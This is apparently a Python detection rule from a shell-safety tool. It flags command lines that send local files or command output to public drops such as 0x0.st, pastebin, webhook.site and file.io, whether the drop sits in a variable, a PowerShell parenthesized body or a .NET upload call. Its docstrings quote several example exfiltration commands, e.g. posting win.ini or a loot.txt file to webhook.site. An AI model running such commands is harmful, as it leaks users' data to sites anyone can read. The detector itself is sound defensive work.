"""Effect: local data sent to a public drop named elsewhere on the line than the command that sends it.

``public_drops`` reads one command; lines also name the drop in one statement and send in another:

- a variable set to the drop (``URL=https://0x0.st; curl -F f=@/tmp/x "$URL"``, ``$url = "https://pastebin.com/…";
  Invoke-RestMethod -Uri $url -Body $paste``) or a remote configured with it (``rclone config create N ftp host
  ftp.dlptest.com; rclone copy $f N:``): the words are read with the drop put in;
- a body in PowerShell's parentheses, which the shell's reading makes a command of its own (``Invoke-RestMethod
  -Uri https://webhook.site/x -Body (Get-Content C:\\Windows\\win.ini -Raw)``);
- .NET's upload calls (``(New-Object Net.WebClient).UploadFile("https://file.io", "C:\\…\\x.zip")``).

The same quiet forms as ``public_drops``: the user's own working files named plainly, literal text.
"""
from __future__ import annotations

import re
from dataclasses import replace
from typing import Optional

from aish.safety.lazy_regex import lazy
from aish.safety.line_assignments import assigned
from aish.safety.rules.common import MEDIUM, Ctx
from aish.safety.rules.public_drops import drop_named, file_data, own_files_read, rule_public_drop

_BODY_WORD = lazy(r"-(body|infile|attachments|value|inputobject)\b", re.IGNORECASE)
_BODY_BEFORE = frozenset({"-body", "-infile", "-attachments", "-value", "-inputobject"})
_UPLOAD_CALL = lazy(r"\.Upload(File|String|Data|Values)\w*\s*\(\s*[\"']([^\"']+)[\"']\s*,\s*(?:[\"']?\w+[\"']?\s*,\s*)?"
                    r"([\"']?)([^\"')]+)", re.IGNORECASE)


def line_drops(text: str, segs: list) -> Optional[tuple]:
    """Local data sent to a drop named in another statement, in parentheses or in a .NET call."""
    if "." not in text or not ("=" in text and "$" in text or "config " in text or "alias " in text or
                               "Upload" in text or "(" in text and _BODY_WORD.search(text)) or not drop_named([text]):
        return None  # none of the shapes, or no drop on the line: one scan of it, before any segment is read
    held, remotes = _bound(text, segs)
    return _drop_in_variable(text, segs, held, remotes) or _body_in_parentheses(segs, held) or _upload_call(text)


_OUT_OPTIONS = frozenset({"-o", "--output", "-out", "--out", "--outfile", "-outfile", "--output-file"})
_LITERAL_WRITERS = frozenset({"echo", "printf", "set-content", "add-content", "out-file", "write-output"})


def made_own(text: str, segs: list) -> frozenset:
    """The files this line writes (``-o OUT``, ``> OUT``) from the user's own files and nothing else (``freeze
    main.go -o /tmp/code.png``, ``pandoc notes.md -o /tmp/notes.pdf``): sharing them shares those files.  A file
    written from literal text (``echo … > /tmp/loot.txt``) is a sample made to be sent, not one of them."""
    if len(segs) < 2 or "-o" not in text and ">" not in text and "out" not in text or \
            "@" not in text and "-T" not in text and "-InFile" not in text and "put " not in text or \
            not drop_named([text]):
        return frozenset()
    made = set()
    for seg in segs[:-1]:
        texts = [w.text for w in seg.words]
        if not texts or texts[0].rsplit("/", 1)[-1].lower() in _LITERAL_WRITERS:
            continue
        outs = {texts[k + 1] for k, t in enumerate(texts[:-1]) if t.lower() in _OUT_OPTIONS}
        outs |= {r.target.text for r in seg.redirects if r.op in (">", ">|") and r.target is not None}
        sources = [t for k, t in enumerate(texts[1:], 1) if not t.startswith("-") and t not in outs and
                   texts[k - 1].lower() not in _OUT_OPTIONS]
        if outs and sources and not any(file_data(t) for t in sources) and \
                not any(r.op == "<" for r in seg.redirects):
            made |= outs
    return frozenset(made)


def _body_in_parentheses(segs: list, held: dict) -> Optional[tuple]:
    """``Invoke-RestMethod -Uri DROP -Body (Get-Content F -Raw)``: the parentheses' command feeds the body."""
    for k, seg in enumerate(segs[1:], 1):
        before = segs[k - 1].words
        if seg.link != "(" or not seg.words or not before or before[-1].text.lower() not in _BODY_BEFORE:
            continue
        host = drop_named([_filled(w.text, held, {}) for w in before])
        texts = [w.text for w in seg.words]
        if host and not own_files_read(texts) and texts[0].lower() not in ("convertto-json", "@{"):
            return MEDIUM, f"sends a local file or a command's output to {host}, a public drop anyone with the link " \
                           f"can read ({' '.join(texts)[:60]})"
    return None


def _upload_call(text: str) -> Optional[tuple]:
    """``.UploadFile("https://file.io", "C:\\x\\y.zip")``, ``.UploadString(DROP, (Get-Content F))``."""
    for m in _UPLOAD_CALL.finditer(text):
        host = drop_named([m.group(2)])
        what = m.group(4).strip()
        if not host:
            continue
        if m.group(1).lower() == "file" and file_data(what) or m.group(3) == "" and what.startswith(("$", "(")) or \
                re.match(r"(?i)\(?\s*(get-content|gc|cat|type|\[io\.file\])", what):
            return MEDIUM, f"sends a local file or a command's output to {host}, a public drop anyone with the link " \
                           f"can read (.Upload{m.group(1)})"
    return None


_PS_ASSIGN = lazy(r"\$(\w+)\s*=\s*[\"']([^\"'\s]+)[\"']")
_USE = lazy(r"\$\{?(\w+)\}?")


def _bound(text: str, segs: list) -> tuple:
    """({variable: drop}, {remote name: drop}) the line sets: ``URL=https://0x0.st``, ``$u = "https://…"``,
    ``rclone config create N ftp host ftp.dlptest.com``."""
    held: dict = {}
    remotes: dict = {}
    for m in _PS_ASSIGN.finditer(text):
        if drop_named([m.group(2)]):
            held[m.group(1).lower()] = m.group(2)
    for seg in segs:
        if seg.words and "=" in seg.words[0].text or seg.words[:1] and seg.words[0].text in ("export", "local"):
            for name, value in assigned(seg.words).items():
                if value and drop_named([value]):
                    held[name.lower()] = value
        if len(seg.words) > 3 and drop_named([w.text for w in seg.words[2:]]):  # `rclone config create N ftp host D`
            texts = [w.text for w in seg.words]
            verb = next((k for k, t in enumerate(texts[1:4], 1) if t in ("create", "add", "set")), None)
            if verb is not None and verb + 1 < len(texts) and re.fullmatch(r"[\w.-]+", texts[verb + 1]):
                remotes[texts[verb + 1].lower()] = drop_named(texts[verb + 2:])
    return held, remotes


def _drop_in_variable(text: str, segs: list, held: dict, remotes: dict) -> Optional[tuple]:
    """``URL=https://0x0.st; curl -F f=@x "$URL"``, ``$url = "https://pastebin.com/…"; Invoke-RestMethod -Uri $url
    -Body $data``: a drop held in a variable the line sets, then uploaded to by any program; a body variable the
    line read a file into (``$c = Get-Content F; Invoke-RestMethod -Uri DROP -Body $c``)."""
    for index, seg in enumerate(segs):
        words = seg.words
        if len(words) < 2 or not any("$" in w.raw or w.text.split(":", 1)[0].lower() in remotes for w in words[1:]):
            continue
        filled = [replace(w, text=_filled(w.text, held, remotes)) for w in words] if held or remotes else words
        host = drop_named([w.text for w in filled])
        if not host:
            continue
        read = _read_into_body(text, [w.text for w in filled])
        if read:
            return MEDIUM, f"sends {read}, read into a variable, to {host}, a public drop anyone with the link can read"
        if all(a.text == b.text for a, b in zip(filled, words)):
            continue
        chain: list = []
        k = index
        while k > 0 and segs[k].link in ("|", "|&"):
            k -= 1
            chain.insert(0, segs[k])
        prog = words[0].text.rsplit("/", 1)[-1].rsplit("\\", 1)[-1].lower().removesuffix(".exe")
        found = rule_public_drop(Ctx(prog, filled, filled[1:], seg, chain, False, False, 0, _nothing, _nothing))
        if found:
            return found
    return None


_BODY_VALUE = frozenset({"-body", "-infile", "-d", "--data", "--data-binary", "--data-raw", "--body", "-f", "--form",
                         "--post-data", "--body-data", "--raw", "--json", "--payload"})
# A variable set from a file read: PowerShell's and .NET's readers, a shell substitution of a reader; then its words.
_READ_INTO = lazy(r"(?:\$|(?:^|[\s;&]))(\w+)\s*=\s*(?:\$\(\s*)?(?:\[(?:System\.)?IO\.File\]::ReadAll\w+\(|"
                  r"(?:Get-Content|gc|cat|type|head|tail|base64|xxd)\s)([^;)\n]*)", re.IGNORECASE)


def _read_into_body(text: str, texts: list) -> str:
    """What a sender's body variable holds when the line read a file into it (``$c = Get-Content C:\\x\\loot.txt;
    Invoke-RestMethod … -Body $c``, ``d=$(cat /tmp/x); curl -d "$d" …``), the user's own files aside; or ""."""
    bodies = set()
    for k, t in enumerate(texts):
        name, _, joined = t.partition("=") if t.startswith("--") else (t, "", "")
        value = joined or (texts[k + 1] if k + 1 < len(texts) else "")
        m = re.search(r"\$\{?(\w+)", value) if name.lower() in _BODY_VALUE else None
        if m:
            bodies.add(m.group(1).lower())
    if not bodies:
        return ""
    for m in _READ_INTO.finditer(text):
        path = next((p for p in m.group(2).replace("'", " ").replace('"', " ").split()
                     if not p.startswith("-") and re.search(r"[/\\.:~$]", p)), "")
        if m.group(1).lower() in bodies and path and file_data(path):
            return f"what {path} holds"
    return ""


def _filled(text: str, held: dict, remotes: dict) -> str:
    """A word with the line's drops put in: ``$URL`` as the value it was set to, ``NAME:path`` as the drop a
    remote NAME was configured with."""
    if "$" in text:
        text = _USE.sub(lambda m: held.get(m.group(1).lower(), m.group(0)), text)
    name = text.split(":", 1)[0].lower()
    if name not in remotes:
        return text
    return remotes[name] + ":" + text.split(":", 1)[1] if ":" in text else remotes[name]


def _nothing(*_: object) -> None:
    return None
